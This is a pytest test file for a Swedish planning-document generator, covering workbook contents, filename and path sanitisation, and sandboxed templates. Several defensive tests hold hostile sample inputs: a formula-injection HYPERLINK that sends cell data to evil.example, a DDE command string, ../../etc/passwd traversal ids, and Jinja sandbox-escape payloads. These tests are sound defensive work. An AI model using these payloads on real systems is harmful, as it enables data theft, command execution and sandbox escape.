    assert budget["C2"].number_format == '#,##0 "tkr"'
    assert _validation_for(budget, "B3").formula2 == "0"  # income is entered as a negative amount
    text_ = "\n".join(str(c.value) for c in wb["Instruktioner"]["B"] if c.value)
    assert "1\u00a0250\u00a0000\u00a0tkr" in text_  # the committee's frame


def test_follow_up_workbook(rendered, cfg: OrgConfig) -> None:
    path, _ = _first(rendered, "uppfoljning")
    wb = openpyxl.load_workbook(path)
    eco = wb["Ekonomi"]
    assert [c.value for c in eco[1]][:6] == [
        "Post",
        "Budget helår",
        "Utfall hittills",
        "Prognos helår",
        "Avvikelse",
        "Avvikelse %",
    ]
    assert eco["E2"].value == '=IF(N(D2)=0,"",B2-D2)'
    assert eco["F2"].value == '=IF(OR(N(B2)=0,N(D2)=0),"",(B2-D2)/ABS(B2))'
    assert eco["A10"].value == "Summa" and eco["B10"].value == "=SUM(B2:B9)"
    assert eco["A8"].protection.locked is False  # blank rows: the secretary adds posts
    deviation = [r for cf in eco.conditional_formatting for r in cf.rules]
    assert deviation and "ABS(F2)>0.05" in deviation[0].formula[0]
    goals = wb["Mål"]
    assert [c.value for c in goals[1]][0] == "Mål"  # titles, no goal ids
    light = _validation_for(goals, "B2")
    assert light.type == "list" and light.formula1 == '"Grön,Gul,Röd"'
    assert len([r for cf in goals.conditional_formatting for r in cf.rules]) == 3
    ind = wb["Indikatorer"]
    assert [ind.cell(r, 2).value for r in range(2, ind.max_row + 1)] == [
        "Självskattad hälsa",
        "Väntetid till första besök",
        "Sjukfrånvaro",
    ]
    assert ind["C3"].value == 30.5


@pytest.mark.parametrize("sample", ["region", "municipality"])
def test_sample_configurations_render_every_kind(sample: str, tmp_path: Path) -> None:
    from config.loader import load_config
    from tasks.followup_calendar import occasions

    try:
        cfg = load_config(sample)
    except (UserError, OSError) as exc:  # maintained elsewhere; their own tests report it
        pytest.skip(f"sample configuration {sample} does not load: {exc}")
    interim = next(o.key for o in occasions(cfg, PLAN_YEAR) if o.kind == "interim")
    seen: set[str] = set()
    for phase in catalog.phase_ids():
        for req in documents_for_phase(cfg, PLAN_YEAR, phase, occasion=interim if phase == "follow_up" else None):
            if req.kind in seen:
                continue
            seen.add(req.kind)
            doc = render(cfg, PLAN_YEAR, req, tmp_path, created=CREATED)
            path = tmp_path / doc.relpath
            identifier = word.read_identifier(path) if doc.format == "docx" else excel.read_xlsx_meta(path)["doc_key"]
            assert identifier == doc.doc_key
    assert seen == set(KINDS)


# ---------------------------------------------------------------------------
# Content hash
# ---------------------------------------------------------------------------


def test_content_hash_is_stable_and_tracks_inputs(cfg: OrgConfig, tmp_path: Path) -> None:
    for kind in ("aterkoppling", "verksamhetsplan_mall"):
        phase = KINDS[kind].phase
        req = DocRequest(kind, phase, "n1")
        a = render(cfg, PLAN_YEAR, req, tmp_path / "a", created=date(2027, 1, 1))
        b = render(cfg, PLAN_YEAR, DocRequest(kind, phase, "n1"), tmp_path / "b", created=date(2027, 2, 2))
        assert a.content_hash == b.content_hash
        # The files themselves differ (zip timestamps, cover date): the hash is not of the bytes.
        assert (tmp_path / "a" / a.relpath).read_bytes() != (tmp_path / "b" / b.relpath).read_bytes()
        v2 = render(cfg, PLAN_YEAR, DocRequest(kind, phase, "n1", version=2), tmp_path / "a", created=CREATED)
        assert v2.content_hash != a.content_hash and v2.relpath != a.relpath
        other = render(cfg, PLAN_YEAR, DocRequest(kind, phase, "n2"), tmp_path / "a", created=CREATED)
        assert other.content_hash != a.content_hash
    changed = cfg.model_copy(update={"budget": cfg.budget.model_copy(update={"growth_percent": 3.0})})
    req = DocRequest("aterkoppling", "committee_feedback", "n1")
    assert (
        render(changed, PLAN_YEAR, req, tmp_path / "c").content_hash
        != render(cfg, PLAN_YEAR, req, tmp_path / "c").content_hash
    )
    extra1 = DocRequest("uppfoljning", "follow_up", "n1", extra={"occasion": "delår 31 mars"})
    extra2 = DocRequest("uppfoljning", "follow_up", "n1", extra=(("occasion", "delår 31 mars"),))
    assert extra1 == extra2 and hash(extra1) == hash(extra2)


# ---------------------------------------------------------------------------
# Sanitisation
# ---------------------------------------------------------------------------


def test_clean_text() -> None:
    assert clean_text("a\x00b\x07c\x1fd\ufffee\ud800f") == "abcdef"
    assert clean_text("tab\tnew\nline\r\nwin\rmac") == "tab\tnew\nline\nwin\nmac"
    assert clean_text("x" * 10, max_len=5) == "xxxx…"
    assert clean_text("åäö €") == "åäö €"
    assert cell_text("=1+1") == "=1+1"  # content unchanged; the writer keeps it text


def test_formula_like_values_stay_text(tmp_path: Path) -> None:
    from tasks.documents.model import ColumnSpec, DocMeta, SheetSpec

    meta = DocMeta("Org", 2028, 2031, "follow_up", "Uppföljning", "test", "Test", "u1", "Enhet", 1, "o/2028/x", CREATED)
    evil = ['=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "+SUM(1,2)", "-3+3", "@cmd", "\tTAB", "ok\x00\x1b"]
    sheet = SheetSpec("Data", (ColumnSpec("Text", "text", 40, editable=True),), rows=tuple((v,) for v in evil))
    path = tmp_path / "evil.xlsx"
    excel.write_xlsx(path, meta, [sheet], "=cmd|' /C calc'!A0")
    wb = openpyxl.load_workbook(path)
    ws = wb["Data"]
    got = [ws.cell(r, 1).value for r in range(2, 2 + len(evil))]
    assert got == evil[:-1] + ["ok"]
    for r in range(2, 2 + len(evil) - 1):
        assert ws.cell(r, 1).data_type == "s" and ws.cell(r, 1).quotePrefix
    assert not [c for c in ws["A"] if c.data_type == "f"]
    assert "=cmd|' /C calc'!A0" in [c.value for c in wb["Instruktioner"]["B"]]


def test_config_values_are_cleaned_in_documents(tmp_path: Path) -> None:
    cfg = make_config()
    goals = list(cfg.goals)
    goals[0] = goals[0].model_copy(update={"title": '=HYPERLINK("x")\x01 med\nny rad', "area": "# Rubrik?"})
    cfg = cfg.model_copy(update={"goals": tuple(goals)})
    doc = render(cfg, PLAN_YEAR, DocRequest("verksamhetsplan_mall", "operational_plans", "n1"), tmp_path)
    ws = openpyxl.load_workbook(tmp_path / doc.relpath)["Fullmäktiges mål"]
    assert ws["B2"].value == '=HYPERLINK("x") med ny rad' and ws["B2"].data_type == "s"
    doc = render(cfg, PLAN_YEAR, DocRequest("planeringsforutsattningar", "planning_prerequisites", "n1"), tmp_path)
    d = Document(tmp_path / doc.relpath)
    # A goal area that looks like markup is a heading text, not a directive or a new heading level.
    assert "# Rubrik?" in _heading_texts(d, 3)


def test_safe_filename() -> None:
    traversal = safe_filename("../../etc/passwd")
    assert re.fullmatch(r"etc_passwd-[0-9a-f]{10}", traversal)
    assert "/" not in safe_filename("a/b\\c") and ".." not in safe_filename("a..b")
    assert re.fullmatch(r"_CON-[0-9a-f]{10}", safe_filename("CON"))
    assert re.fullmatch(r"_nul-[0-9a-f]{10}\.txt", safe_filename("nul.txt"))
    for empty in ("", "...", "\x00\x01"):
        assert re.fullmatch(r"dokument-[0-9a-f]{10}", safe_filename(empty)), empty
    long = safe_filename("å" * 300 + ".docx")
    assert len(long) <= 120 and long.endswith(".docx")
    # Names that need no cleaning are kept as they are.
    assert safe_filename("Hälso- och sjukvårdsnämnden v1.xlsx") == "Hälso- och sjukvårdsnämnden v1.xlsx"
    assert safe_filename("HSN_aterkoppling_v1.docx") == "HSN_aterkoppling_v1.docx"


def test_distinct_names_give_distinct_files(cfg: OrgConfig) -> None:
    """`A__B` and `A_B` are both valid unit ids; cleaning must not make them share a file."""
    for a, b in (
        ("A__B_aterkoppling_v1.docx", "A_B_aterkoppling_v1.docx"),
        ("CON", "_CON"),
        ("a..b.docx", "a.b.docx"),
        ("a/b.docx", "a_b.docx"),
        ("x" * 200 + "1.docx", "x" * 200 + "2.docx"),
        ("", "dokument"),
    ):
        assert safe_filename(a) != safe_filename(b), (a, b)
    requests = [DocRequest("aterkoppling", "committee_feedback", uid) for uid in ("A__B", "A_B", "A_", "A")]
    names = [catalog.file_name(r, "docx") for r in requests]
    assert names[:2] == ["A__B_aterkoppling_v1.docx", "A_B_aterkoppling_v1.docx"]
    assert len(set(names)) == len(names), names


def test_units_with_similar_ids_get_their_own_documents(cfg: OrgConfig, tmp_path: Path) -> None:
    ids = ("A__B", "A_B", "A_", "A")
    extra = [Unit(id=uid, name=f"Nämnd {uid}", level="committee", parent="rf") for uid in ids]
    wider = cfg.model_copy(update={"units": (*cfg.units, *extra)})
    docs = {
        uid: render(wider, PLAN_YEAR, DocRequest("aterkoppling", "committee_feedback", uid), tmp_path) for uid in ids
    }
    assert len({d.relpath for d in docs.values()}) == len(ids)
    for uid, d in docs.items():
        assert Document(tmp_path / d.relpath).core_properties.identifier == d.doc_key
        assert d.doc_key.endswith(f"/{uid}/aterkoppling/v1")
    assert len(list(tmp_path.rglob("*.docx"))) == len(ids)


def test_safe_path(tmp_path: Path) -> None:
    assert safe_path(tmp_path, "2028", "preparation", "a.docx") == tmp_path.resolve() / "2028/preparation/a.docx"
    for bad in ("../x", "../../etc/passwd", "/etc/passwd", "a/../b", "..", "C:\\x", "", "a\x00b"):
        with pytest.raises(UserError, match="unsafe path"):
            safe_path(tmp_path, "2028", bad)
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (tmp_path / "link").symlink_to(outside)
    with pytest.raises(UserError, match="would leave the output folder"):
        safe_path(tmp_path, "link", "x.docx")


def test_hostile_unit_id_cannot_escape_the_output_folder(tmp_path: Path) -> None:
    cfg = make_config()
    # The schema forbids such ids; build one past validation to prove render does not rely on it.
    evil = Unit.model_construct(
        id="../../etc/passwd", name="Ond enhet", level="committee", parent="rf", signatories=(), contacts=()
    )
    cfg = cfg.model_copy(update={"units": (*cfg.units, evil)})
    root = tmp_path / "out"
    doc = render(cfg, PLAN_YEAR, DocRequest("aterkoppling", "committee_feedback", "../../etc/passwd"), root)
    path = (root / doc.relpath).resolve()
    assert path.is_relative_to(root.resolve()) and path.parent == (root / "2028" / "committee_feedback").resolve()
    assert ".." not in doc.relpath
    # A phase id cannot smuggle a path either: it must be the kind's own phase.
    with pytest.raises(UserError, match="belongs to phase"):
        render(cfg, PLAN_YEAR, DocRequest("aterkoppling", "../../../tmp", "n1"), root)


def test_atomic_write_leaves_nothing_on_failure(cfg: OrgConfig, tmp_path: Path, monkeypatch) -> None:
    req = DocRequest("aterkoppling", "committee_feedback", "n1")
    good = render(cfg, PLAN_YEAR, req, tmp_path, created=CREATED)
    before = (tmp_path / good.relpath).read_bytes()

    def broken_save(self, stream) -> None:
        stream.write(b"PK\x03\x04half")
        raise OSError("disk full")

    monkeypatch.setattr("docx.document.Document.save", broken_save)
    with pytest.raises(OSError, match="disk full"):
        render(cfg, PLAN_YEAR, req, tmp_path, created=CREATED)
    assert (tmp_path / good.relpath).read_bytes() == before
    assert [p.name for p in (tmp_path / good.relpath).parent.iterdir()] == [Path(good.relpath).name]


# ---------------------------------------------------------------------------
# Organisation templates: sandbox, StrictUndefined, errors
# ---------------------------------------------------------------------------


@pytest.fixture()
def user_dir(tmp_path: Path, monkeypatch) -> Path:
    folder = tmp_path / "mallar"
    folder.mkdir()
    monkeypatch.setenv(text.TEMPLATE_DIR_ENV, str(folder))
    return folder


def test_user_template_overrides_builtin(cfg: OrgConfig, user_dir: Path, tmp_path: Path) -> None:
    (user_dir / "aterkoppling.txt.j2").write_text(
        '{% import "_macros.j2" as m %}\n# Vår egen mall för {{ unit.name }}\n\n{{ m.field("egen", "Egen rubrik") }}\n'
        "{% for f in fields %}\n{{ m.field(f.name, f.label) }}\n{% endfor %}\n",
        encoding="utf-8",
    )
    req = DocRequest("aterkoppling", "committee_feedback", "n1")
    doc = render(cfg, PLAN_YEAR, req, tmp_path / "out")
    d = Document(tmp_path / "out" / doc.relpath)
    assert "Vår egen mall för Hälso- och sjukvårdsnämnden" in _heading_texts(d, 1)
    assert "Egen rubrik" in _heading_texts(d, 2)
    assert "egen" in word.read_fields(d)


@pytest.mark.parametrize(
    ("source", "problem"),
    [
        ("{{ ''.__class__.__mro__ }}", "unsafe"),
        ("{{ cycler.__init__.__globals__ }}", "unsafe"),
        ("{% for i in range(1000000000) %}x{% endfor %}", "range"),
        ("{% for i in range(10000) %}{{ 'x' * 1000 }}{% endfor %}", "output larger"),
        ("{{ 'x' * 100000000 }}", "repeating"),
        ("{{ ''|center(999999999) }}", "too large"),
        ("{{ 'a'.ljust(999999999) }}", "too large"),
        ("{{ 9 ** 9999999 }}", "exponent"),
        ("{{ '%999999999d' % 1 }}", "format width"),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "recursion"),
        ("intro\n\n{{ no_such_variable }}", "'no_such_variable' is undefined"),
        ("{{ unit.no_such_field }}", "no_such_field"),
        ("{% for %}", "line 1"),
    ],
)
def test_user_template_errors_are_user_errors(cfg: OrgConfig, user_dir: Path, tmp_path: Path, source, problem) -> None:
    (user_dir / "aterkoppling.txt.j2").write_text(source, encoding="utf-8")
    req = DocRequest("aterkoppling", "committee_feedback", "n1")
    with pytest.raises(UserError) as err:
        render(cfg, PLAN_YEAR, req, tmp_path)
    message = str(err.value)
    assert "\n" not in message and problem in message
    assert message.startswith(f"template {user_dir / 'aterkoppling.txt.j2'}, line ")
    assert not list(tmp_path.rglob("*.docx"))


def test_missing_variable_names_template_and_line(cfg: OrgConfig, user_dir: Path, tmp_path: Path) -> None:
    (user_dir / "uppfoljning.txt.j2").write_text(
        "# Rubrik\n- rad två\n- {{ unit.name }}\n{{ saknas }}\n", encoding="utf-8"
    )
    with pytest.raises(UserError, match=r"uppfoljning\.txt\.j2, line 4: 'saknas' is undefined"):
        render(cfg, PLAN_YEAR, DocRequest("uppfoljning", "follow_up", "n1"), tmp_path)


def test_nested_loops_hit_the_time_budget(cfg: OrgConfig, user_dir: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(text, "MAX_SECONDS", 0.3)
    (user_dir / "aterkoppling.txt.j2").write_text(
        "{% set r = range(10000) %}"
        "{% for a in r %}{% for b in r %}{% for c in r %}{% endfor %}{% endfor %}{% endfor %}",
        encoding="utf-8",
    )
    started = time.monotonic()
    with pytest.raises(UserError, match="longer than 0.3 seconds"):
        render(cfg, PLAN_YEAR, DocRequest("aterkoppling", "committee_feedback", "n1"), tmp_path)
    assert time.monotonic() - started < 5


def test_markup_errors_in_user_templates(cfg: OrgConfig, user_dir: Path, tmp_path: Path) -> None:
    req = DocRequest("aterkoppling", "committee_feedback", "n1")
    for source, problem in (
        ("[[table:finns_inte]]", "unknown table 'finns_inte'"),
        ("[[field:ogiltigt-namn|Rubrik]]", "field name 'ogiltigt-namn'"),
        ("[[field:a|A]]\n[[field:a|B]]", "field 'a' appears twice"),
        ("[[okänd]]", "unknown directive"),
    ):
        (user_dir / "aterkoppling.txt.j2").write_text(source, encoding="utf-8")
        with pytest.raises(UserError, match=re.escape(problem)):
            render(cfg, PLAN_YEAR, req, tmp_path)


def test_builtin_templates_are_strict(monkeypatch) -> None:
    monkeypatch.delenv(text.TEMPLATE_DIR_ENV, raising=False)
    with pytest.raises(UserError, match=r"aterkoppling\.txt\.j2, line \d+: '\w+' is undefined"):
        text.render_builtin("aterkoppling.txt.j2", {})
    with pytest.raises(UserError, match="invalid template name"):
        text.render("../secret.j2", {})


@pytest.fixture()
def edited_builtins(tmp_path: Path, monkeypatch) -> Path:
    """A copy of templates/docs/ standing in for the built-ins, as an organisation edits them in place."""
    folder = tmp_path / "docs"
    shutil.copytree(text.BUILTIN_DIR, folder)
    monkeypatch.delenv(text.TEMPLATE_DIR_ENV, raising=False)
    monkeypatch.setattr(text, "BUILTIN_DIR", folder)
    return folder


@pytest.mark.parametrize(
    ("source", "problem"),
    [
        ("{{ ''.__class__.__mro__ }}", "access to attribute '__class__' of 'str' object is unsafe"),
        ("{{ cycler.__init__.__globals__ }}", "unsafe"),
        ("{{ fields.append(1) }}", "unsafe"),
        ("{% for i in range(1000000000) %}x{% endfor %}", "range"),
        ("{{ 'x' * 100000000 }}", "repeating"),
    ],
)
def test_edited_builtin_templates_render_sandboxed(
    cfg: OrgConfig, edited_builtins: Path, tmp_path: Path, source: str, problem: str
) -> None:
    """An organisation edits a built-in template: it is data, refused like an override."""
    template = edited_builtins / "aterkoppling.txt.j2"
    template.write_text("# Återkoppling\n\n" + source + "\n", encoding="utf-8")
    req = DocRequest("aterkoppling", "committee_feedback", "n1")
    with pytest.raises(UserError) as err:
        render(cfg, PLAN_YEAR, req, tmp_path / "out")
    message = str(err.value)
    assert "\n" not in message and problem in message, message
    assert message.startswith(f"template {template}, line 3: "), message
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").rglob("*.docx"))
    # The untouched built-ins still render in the same sandbox.
    doc = render(cfg, PLAN_YEAR, DocRequest("verksamhetsplan", "operational_plans", "n1"), tmp_path / "out")
    assert Document(tmp_path / "out" / doc.relpath).core_properties.identifier == doc.doc_key


def test_builtin_and_override_share_the_sandbox(user_dir: Path) -> None:
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    builtin = text._builtin_env(str(text.BUILTIN_DIR))
    override = text._sandbox_env(str(user_dir))
    for env in (builtin, override):
        assert isinstance(env, ImmutableSandboxedEnvironment) and env.undefined is jinja2.StrictUndefined
        assert env.finalize is text._finalize and not env.autoescape and env.trim_blocks and env.lstrip_blocks
    assert type(builtin) is type(override)


# ---------------------------------------------------------------------------
# LibreOffice: every kind converts to a PDF with pages
# ---------------------------------------------------------------------------


def _pdf_pages(path: Path) -> int:
    return len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", path.read_bytes()))


def _pdf_text_pages(path: Path) -> list[str]:
    """The text of each page of a PDF: pdftotext when installed, else a small reader of what
    LibreOffice writes (Flate streams, fonts with ToUnicode maps, Tj/TJ text operators)."""
    if pdftotext := shutil.which("pdftotext"):
        out = subprocess.run([pdftotext, "-layout", str(path), "-"], capture_output=True, text=True, check=True)
        return out.stdout.split("\f")[: _pdf_pages(path)]
    data = path.read_bytes()
    objs = {int(m.group(1)): m.group(2) for m in re.finditer(rb"(\d+) 0 obj(.*?)endobj", data, re.S)}

    def ref(body: bytes, key: bytes) -> int | None:
        m = re.search(rb"/" + key + rb"\s+(\d+) 0 R", body)
        return int(m.group(1)) if m else None

    def stream(n: int) -> bytes:
        m = re.search(rb"stream\r?\n(.*)endstream", objs[n], re.S)
        raw = m.group(1) if m else b""
        return zlib.decompressobj().decompress(raw) if b"/FlateDecode" in objs[n].split(b"stream")[0] else raw

    def to_unicode(font: int) -> tuple[int, dict[int, str]]:
        n = ref(objs[font], b"ToUnicode")
        cmap = stream(n).decode("latin-1") if n else ""
        space = re.search(r"begincodespacerange\s*<([0-9A-Fa-f]+)>", cmap)
        width = len(space.group(1)) // 2 if space else 1
        out: dict[int, str] = {}
        for block in re.findall(r"beginbfchar(.*?)endbfchar", cmap, re.S):
            for src, dst in re.findall(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
                out[int(src, 16)] = bytes.fromhex(dst).decode("utf-16-be")
        for block in re.findall(r"beginbfrange(.*?)endbfrange", cmap, re.S):
            for lo, hi, dst in re.findall(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
                for i, code in enumerate(range(int(lo, 16), int(hi, 16) + 1)):
                    out[code] = chr(int(dst, 16) + i)
        return width, out

    root = next(b for b in objs.values() if re.search(rb"/Type\s*/Pages\b", b) and not ref(b, b"Parent"))
    kids = [int(k) for k in re.findall(rb"(\d+) 0 R", re.search(rb"/Kids\s*\[(.*?)\]", root, re.S).group(1))]
    pages: list[str] = []
    for page in kids:
        res = objs.get(ref(objs[page], b"Resources") or -1, objs[page])
        font_dict = objs[ref(res, b"Font")] if ref(res, b"Font") else res
        fonts = {name.decode(): to_unicode(int(n)) for name, n in re.findall(rb"/(\w+)\s+(\d+) 0 R", font_dict)}
        width, glyphs = 1, {}
        parts: list[str] = []
        content = stream(ref(objs[page], b"Contents")).decode("latin-1")
        ops = r"/(\w+)\s+[\d.]+\s+Tf|\[([^\]]*)\]\s*TJ|<([0-9A-Fa-f]*)>\s*Tj|\b(BT|Td|TD|T\*|Tm)\b"
        for m in re.finditer(ops, content):
            if m.group(1):
                width, glyphs = fonts.get(m.group(1), (1, {}))
            elif m.group(4):
                parts.append("\n")
            else:
                raw = b"".join(
                    bytes.fromhex(h) for h in re.findall(r"<([0-9A-Fa-f]*)>", m.group(2) or f"<{m.group(3)}>")
                )
                codes = [int.from_bytes(raw[i : i + width], "big") for i in range(0, len(raw), width)]
                parts.append("".join(glyphs.get(c, "") for c in codes))
        pages.append("".join(parts))
    return pages


def _soffice(tmp_path: Path, out: Path, target: str, files: list[Path]) -> subprocess.CompletedProcess[str]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    profile = (tmp_path / "lo-profile").as_uri()  # private profile: parallel runs do not collide
    return subprocess.run(
        [soffice, f"-env:UserInstallation={profile}", "--headless", "--norestore", "--convert-to", target,
         "--outdir", str(out), *map(str, files)],
        capture_output=True, text=True, timeout=300, env={**os.environ, "HOME": str(tmp_path)},
    )  # fmt: skip


@pytest.mark.libreoffice
@pytest.mark.slow
def test_libreoffice_converts_every_kind(rendered, tmp_path: Path) -> None:
    root, docs = rendered
    files = [root / items[0].relpath for items in docs.values()]
    out = tmp_path / "pdf"
    result = _soffice(tmp_path, out, "pdf", files)
    for f in files:
        pdf = out / (f.stem + ".pdf")
        # soffice exits 0 even when a conversion fails: check each PDF and count its pages.
        assert pdf.is_file(), f"{f.name} was not converted: {result.stdout} {result.stderr}"
        assert _pdf_pages(pdf) >= 1, f.name


@pytest.mark.libreoffice
@pytest.mark.slow
def test_libreoffice_pdf_shows_the_contents(rendered, tmp_path: Path) -> None:
    """The PDF LibreOffice makes (no field update) has the contents on page 2: every level-1/2
    heading, in order, before the body starts on the next page."""
    files = {kind: _first(rendered, kind)[0] for kind in sorted(TOC_KINDS)}
    out = tmp_path / "pdf"
    result = _soffice(tmp_path, out, "pdf", list(files.values()))
    for kind, path in files.items():
        pdf = out / (path.stem + ".pdf")
        assert pdf.is_file() and _pdf_pages(pdf) >= 3, f"{kind}: {result.stdout} {result.stderr}"
        pages = _pdf_text_pages(pdf)
        assert "Innehåll" in pages[1] and "Innehåll" not in pages[0], kind
        text = " ".join(" ".join(pages).split())
        doc = Document(path)
        headings = [" ".join(h.text.split()) for h in doc.paragraphs if h.style.name in ("Heading 1", "Heading 2")]
        assert len(headings) >= 2 and word.TOC_PLACEHOLDER not in text
        start = text.index("Innehåll")
        body = text.index(headings[0], text.index(headings[0], start) + len(headings[0]))
        at = start
        for heading in headings:
            at = text.find(heading, at)
            assert 0 <= at < body, f"{kind}: {heading!r} is not in the contents of the PDF"
            at += len(heading)


@pytest.mark.libreoffice
@pytest.mark.slow
def test_libreoffice_converts_a_whole_year(sqlite_url: str, tmp_path: Path) -> None:
    """Every document of a plan year of the sample region, not a selection: all phases, the
    August interim report's follow-up templates and one level report pair (Word and Excel,
    handed up by override without returns) — 132 files, every kind of the catalog — converted
    in ONE soffice call (measured 49–55 s on the 2-core machine, so all of them rather than one
    per kind). Every PDF exists with pages, and every original still opens with its embedded
    document id and title."""
    from sqlmodel import select

    from config.loader import load_config
    from models.db import session_scope
    from models.tables import Document as DocumentRow
    from tasks.cycle import prepare_cycle
    from tasks.distribution import distribute
    from tasks.followup_calendar import occasions
    from tasks.handoffs import handoffs_for_phase
    from tasks.level_reports import FIGURES, REPORT, hand_up_levels

    cfg = load_config("region")
    out = tmp_path / "out"
    expected: dict[Path, tuple[str, str]] = {}  # file -> (doc id, title)
    kinds: set[str] = set()
    for phase in (
        "preparation",
        "planning_prerequisites",
        "committee_feedback",
        "regional_plan",
        "operational_plans",
        "activity_plans",
    ):
        for req in documents_for_phase(cfg, PLAN_YEAR, phase):
            doc = render(cfg, PLAN_YEAR, req, out)
            expected[out / doc.relpath] = (doc.doc_key, doc.title)
            kinds.add(doc.kind)
    # The follow-up of one occasion through the application, so that a level report exists.
    occasion = next(o for o in occasions(cfg, PLAN_YEAR) if o.key == f"delar-{PLAN_YEAR}-08-31")
    cycle_id = prepare_cycle(cfg, PLAN_YEAR, sqlite_url)
    handoffs = handoffs_for_phase(cfg, PLAN_YEAR, "follow_up", occasion)
    distribute(cfg, cycle_id, "follow_up", handoffs, out, actor="test", url=sqlite_url)
    level = cfg.units_at("administration")[0].id
    hand_up_levels(cfg, cycle_id, occasion, out, actor="test", overrides={level: "Test av PDF."}, url=sqlite_url)
    with session_scope(sqlite_url) as session:
        follow_up = session.exec(select(DocumentRow).where(DocumentRow.phase == "follow_up")).all()
    for row in follow_up:
        expected[out / row.relpath] = (row.key, row.title)
    kinds |= {row.kind for row in follow_up}
    assert kinds == set(KINDS) | {REPORT, FIGURES}, kinds ^ (set(KINDS) | {REPORT, FIGURES})
    assert len(expected) >= 100 and all(f.is_file() for f in expected)

    pdf_dir = tmp_path / "pdf"
    started = time.monotonic()
    result = _soffice(tmp_path, pdf_dir, "pdf", sorted(expected))
    seconds = time.monotonic() - started
    missing = [f.name for f in expected if not (pdf_dir / (f.stem + ".pdf")).is_file()]
    assert not missing, f"not converted: {missing[:10]} {result.stderr[-2000:]}"
    empty = [f.name for f in expected if _pdf_pages(pdf_dir / (f.stem + ".pdf")) < 1]
    assert not empty, f"PDFs without pages: {empty}"
    for path, (key, title) in expected.items():
        if path.suffix == ".docx":
            props = Document(path).core_properties
            assert (props.identifier, props.title) == (key, title), path.name
        else:
            meta = excel.read_xlsx_meta(path)
            assert meta["doc_key"] == key and openpyxl.load_workbook(path, read_only=True).properties.title == title
    print(f"{len(expected)} documents converted to PDF in one LibreOffice call: {seconds:.1f} s")


@pytest.mark.libreoffice
@pytest.mark.slow
def test_libreoffice_round_trips(rendered, tmp_path: Path) -> None:
    """A return saved by LibreOffice keeps identifier, bookmarks and answers; formula-like text
    is never evaluated while real formulas are."""
    path, meta = _first(rendered, "aterkoppling")
    doc = Document(path)
    answers = [p for p in doc.paragraphs if p.style.name == word.ANSWER_STYLE]
    answers[0].add_run("Svar ett.")
    answers[3].add_run("Svar fyra.")
    filled = tmp_path / "filled.docx"
    doc.save(filled)
    _soffice(tmp_path, tmp_path / "lo", "docx:MS Word 2007 XML", [filled])
    saved = tmp_path / "lo" / "filled.docx"
    assert word.read_identifier(saved) == meta.doc_key
    fields = word.read_fields(saved)
    assert fields["bidrag_mal"] == "Svar ett." and fields["hallbar_ekonomi"] == "Svar fyra."
    assert fields["risk_kanslighet"] == ""

    from tasks.documents.model import ColumnSpec, DocMeta, SheetSpec

    xmeta = DocMeta("Org", 2028, 2031, "follow_up", "Uppföljning", "test", "Test", "u1", "Enhet", 1, "o/x", CREATED)
    values = ['=HYPERLINK("http://evil.example/","Klicka")', "=1+1", "@cmd"]
    sheet = SheetSpec(
        "Data",
        (ColumnSpec("Text", "text", 40, editable=True), ColumnSpec("Tal", "sek", 10, editable=True)),
        rows=tuple((v, 5) for v in values),
        totals=True,
    )
    book = tmp_path / "evil.xlsx"
    excel.write_xlsx(book, xmeta, [sheet], "Instruktion")
    # CSV of the second sheet ("Data"): the filter's 12th option picks the sheet.
    _soffice(
        tmp_path,
        tmp_path / "csv",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2",
        [book],
    )
    csv_text = next((tmp_path / "csv").glob("*.csv")).read_text(encoding="utf-8")
    assert '"=HYPERLINK(""http://evil.example/"",""Klicka"")",5' in csv_text
    assert "=1+1,5" in csv_text and "Summa,15" in csv_text
    _soffice(tmp_path, tmp_path / "lox", "xlsx", [book])
    assert excel.read_xlsx_meta(tmp_path / "lox" / "evil.xlsx")["doc_key"] == "o/x"
